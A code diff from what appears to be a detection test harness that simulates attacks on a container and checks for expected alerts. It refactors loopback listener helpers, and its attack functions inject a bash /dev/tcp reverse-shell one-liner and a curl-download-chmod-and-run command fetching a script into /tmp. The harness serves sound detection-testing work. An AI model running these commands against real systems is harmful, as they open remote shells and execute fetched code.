@@ -146,53 +146,43 @@ def load(state, seconds):
 
 # ---- attacks -----------------------------------------------------------------------------
 
-def listener(port, send=b"id\nexit\n", seconds=15):
-    """A host-side listener for reverse shells: accepts one connection, sends commands."""
+def serve_once(handle, seconds=15):
+    """A host-side server on a free loopback port that handles one connection with
+    `handle(conn)` in a thread, then closes. Returns (port, thread)."""
     s = socket.socket()
-    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-    s.bind(("127.0.0.1", port))
+    s.bind(("127.0.0.1", 0))
     s.listen(1)
     s.settimeout(seconds)
 
     def serve():
         try:
             c, _ = s.accept()
-            c.sendall(send)
             c.settimeout(5)
-            try:
-                while c.recv(4096):
-                    pass
-            except OSError:
-                pass
+            handle(c)
             c.close()
         except OSError:
             pass
         s.close()
     t = threading.Thread(target=serve, daemon=True)
     t.start()
-    return t
+    return s.getsockname()[1], t
 
 
-def file_server(port, body, seconds=15):
+def reverse_shell_listener():
+    """The attacker's end of a reverse shell: sends two commands, reads until closed."""
+    def handle(c):
+        c.sendall(b"id\nexit\n")
+        while c.recv(4096):
+            pass
+    return serve_once(handle)
+
+
+def file_server(body):
     """Serves `body` once over HTTP, for download-and-run."""
-    s = socket.socket()
-    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-    s.bind(("127.0.0.1", port))
-    s.listen(1)
-    s.settimeout(seconds)
-
-    def serve():
-        try:
-            c, _ = s.accept()
-            c.recv(4096)
-            c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
-            c.close()
-        except OSError:
-            pass
-        s.close()
-    t = threading.Thread(target=serve, daemon=True)
-    t.start()
-    return t
+    def handle(c):
+        c.recv(4096)
+        c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
+    return serve_once(handle)
 
 
 def inject(state, command):
@@ -240,8 +230,7 @@ def attack_web_injection(state):
 
 def attack_reverse_shell(state):
     """Injection that opens a reverse shell to the attacker (bash /dev/tcp)."""
-    port = free_port()
-    t = listener(port)
+    port, t = reverse_shell_listener()
     inject(state, f"bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1' &")
     t.join(10)
     return {"container": "app", "expect": ["reverse-shell"]}
@@ -249,8 +238,7 @@ def attack_reverse_shell(state):
 
 def attack_download_run(state):
     """Injection that downloads a program and runs it from /tmp."""
-    port = free_port()
-    t = file_server(port, b"#!/bin/sh\necho owned > /tmp/owned\n")
+    port, t = file_server(b"#!/bin/sh\necho owned > /tmp/owned\n")
     inject(state, f"curl -s -o /tmp/.x http://127.0.0.1:{port}/x; chmod +x /tmp/.x; /tmp/.x")
     t.join(10)
     return {"container": "app", "expect": ["/tmp/.x", "curl"]}
